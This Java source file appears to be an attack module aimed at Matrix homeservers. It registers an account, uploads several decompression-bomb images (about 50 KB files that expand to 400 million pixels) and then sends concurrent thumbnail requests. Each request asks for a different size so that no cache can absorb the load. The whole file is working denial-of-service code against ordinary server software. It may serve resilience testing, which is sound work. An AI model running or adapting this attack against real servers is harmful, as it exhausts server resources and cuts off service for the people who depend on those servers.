package org.bongsu.attack;

import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.bongsu.client.Http;

/** Thumbnails of pictures that are small as files and huge as pixels. */
final class PixelBombs implements Attack {
  private static final int BOMBS = 8;
  private static final int AT_ONCE = 16;

  @Override
  public String name() {
    return "pixel-bombs";
  }

  @Override
  public String what() {
    return "thumbnails of pictures with 400 million pixels in 50 KB";
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("painter");
    List<String> paths = new ArrayList<>();
    for (int i = 0; i < BOMBS; i++) {
      Bomb bomb = Bomb.pixels(i);
      Http.Answer answer = target.ask(Target.upload(attacker, bomb.type(), bomb.bytes()));
      if (answer.isOk()) {
        paths.add(answer.text("content_uri").replaceFirst("mxc:/", ""));
      }
    }
    if (paths.isEmpty()) {
      throw new IOException("no picture was accepted");
    }
    return new RepeatedRequests(
        target, AT_ONCE, Duration.ofMillis(20), i -> thumbnail(attacker, paths, i));
  }

  /** Of another size each time, so that no cache has it. */
  private static Http.Ask thumbnail(Target.Account attacker, List<String> paths, int i) {
    String path =
        "/_matrix/client/v1/media/thumbnail%s?width=%d&height=%d&method=scale"
            .formatted(paths.get(i % paths.size()), 32 + i % 700, 32 + i % 500);
    return Http.Ask.json("GET", path, attacker.token(), null);
  }
}
